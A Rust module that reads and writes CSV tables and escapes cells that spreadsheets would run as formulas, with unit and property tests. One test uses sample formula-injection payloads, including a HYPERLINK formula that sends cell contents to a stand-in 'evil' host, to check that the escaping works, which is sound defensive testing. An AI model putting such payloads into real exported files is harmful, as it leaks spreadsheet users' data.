//! Tables as spreadsheets write them (RFC 4180): fields apart by a mark, in quotes where they hold the mark, a quote or
//! the end of a line.

use std::borrow::Cow;

/// One record and where it begins.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct CsvRecord {
    /// The line it begins on, from 1.
    pub(super) line: usize,
    /// Its fields, without their quotes.
    pub(super) fields: Vec<String>,
}

/// The records of `text`; empty lines are none. Quotes that are never closed reach to the end of their line alone, so
/// that one mistake does not swallow the table.
pub(super) fn records(text: &str, mark: char) -> Vec<CsvRecord> {
    let mut records = Vec::new();
    let (mut rest, mut line) = (text, 1);
    while !rest.is_empty() {
        let (fields, used) = record(rest, mark);
        let (this, next) = rest.split_at(used);
        if fields.iter().any(|field| !field.is_empty()) {
            records.push(CsvRecord { line, fields });
        }
        line += this.matches('\n').count();
        rest = next;
    }
    records
}

/// The fields of the first record, and how many bytes it takes with the end of its line.
fn record(text: &str, mark: char) -> (Vec<String>, usize) {
    let mut fields = Vec::new();
    let mut at = 0;
    loop {
        let rest = text.get(at..).unwrap_or_default();
        let (field, used) = quoted(rest, mark).unwrap_or_else(|| {
            let end = rest.find([mark, '\n']).unwrap_or(rest.len());
            (rest.get(..end).unwrap_or_default().trim_end_matches('\r').to_owned(), end)
        });
        fields.push(of_text(field));
        at += used;
        match text.get(at..).and_then(|rest| rest.chars().next()) {
            Some('\n') => return (fields, at + 1),
            Some(_) => at += mark.len_utf8(),
            None => return (fields, at),
        }
    }
}

/// A field in quotes and how many bytes it takes; none where it is in none, or they are not closed before the mark.
fn quoted(text: &str, mark: char) -> Option<(String, usize)> {
    let inside = text.strip_prefix('"')?;
    let mut field = String::new();
    let mut chars = inside.char_indices().peekable();
    while let Some((place, c)) = chars.next() {
        if c != '"' {
            field.push(c);
        } else if chars.next_if(|(_, next)| *next == '"').is_some() {
            field.push('"');
        } else {
            let used = place + 2;
            let after = text.get(used..)?;
            let blank = after.len() - after.trim_start_matches('\r').len();
            let after = after.trim_start_matches('\r');
            return (after.is_empty() || after.starts_with([mark, '\n'])).then_some((field, used + blank));
        }
    }
    None
}

/// One line of a table, with its end. What a spreadsheet would calculate is written as the text that it is.
pub(super) fn line(fields: &[&str]) -> String {
    let fields = fields.iter().map(|field| {
        let field = as_text(field);
        if field.contains([',', ';', '\t', '"', '\n', '\r']) {
            format!("\"{}\"", field.replace('"', "\"\""))
        } else {
            field.into_owned()
        }
    });
    fields.collect::<Vec<_>>().join(",") + "\r\n"
}

/// Spreadsheets take a cell that begins so as a formula, and run it.
const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
/// Spreadsheets take what stands behind it as text, and do not show it.
const TEXT: char = '\'';

/// The field with the mark of a text where it would be a formula, or where the mark would be taken off again.
fn as_text(field: &str) -> Cow<'_, str> {
    let is_taken = |field: &str| field.starts_with(FORMULA) || field.starts_with(TEXT);
    if is_taken(field) { Cow::Owned(format!("{TEXT}{field}")) } else { Cow::Borrowed(field) }
}

/// The field without the mark that [`line()`] puts before a text.
fn of_text(field: String) -> String {
    match field.strip_prefix(TEXT) {
        Some(rest) if rest.starts_with(FORMULA) || rest.starts_with(TEXT) => rest.to_owned(),
        _ => field,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn fields(text: &str) -> Vec<(usize, Vec<String>)> {
        records(text, ',').into_iter().map(|record| (record.line, record.fields)).collect()
    }

    #[test]
    fn quotes_hold_marks_quotes_and_lines() {
        let found = fields("a,\"b, \"\"c\"\"\nd\",e\r\n\r\n,,\nf\r\n");
        let words = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
        assert_eq!(found, [(1, words(&["a", "b, \"c\"\nd", "e"])), (5, words(&["f"]))]);
    }

    #[test]
    fn a_quote_that_is_not_closed_costs_its_line_alone() {
        let found = fields("a,\"b\nc,d\n");
        assert_eq!(found.len(), 2, "{found:?}");
        assert_eq!(found[1].1, ["c", "d"]);
    }

    #[test]
    fn nothing_that_is_written_is_a_formula() {
        for cell in ["=HYPERLINK(\"http://evil\"&A1)", "@SUM(A1)", "+1+cmd", "-2+3", "\t=1", "'=1", "''"] {
            let text = line(&[cell, "a"]);
            assert!(text.trim_start_matches('"').starts_with('\''), "{text}");
            assert_eq!(fields(&text)[0].1, [cell, "a"]);
        }
        assert_eq!(fields("'tis,2\n")[0].1, ["'tis", "2"], "a mark that stands for itself");
    }

    proptest! {
        #[test]
        fn what_is_written_is_read(table in prop::collection::vec(prop::collection::vec("[a-z,\"\n\r é价=+@'-]{0,8}", 1..5), 0..6)) {
            let text: String =
                table.iter().map(|row| line(&row.iter().map(String::as_str).collect::<Vec<_>>())).collect();
            let found: Vec<Vec<String>> = records(&text, ',').into_iter().map(|record| record.fields).collect();
            let kept: Vec<Vec<String>> = table.into_iter().filter(|row| row.iter().any(|field| !field.is_empty())).collect();
            prop_assert_eq!(found, kept);
        }

        #[test]
        fn nothing_makes_it_stop(text in "\\PC{0,40}|[\",;\n\r]{0,20}") {
            records(&text, ';');
        }
    }
}
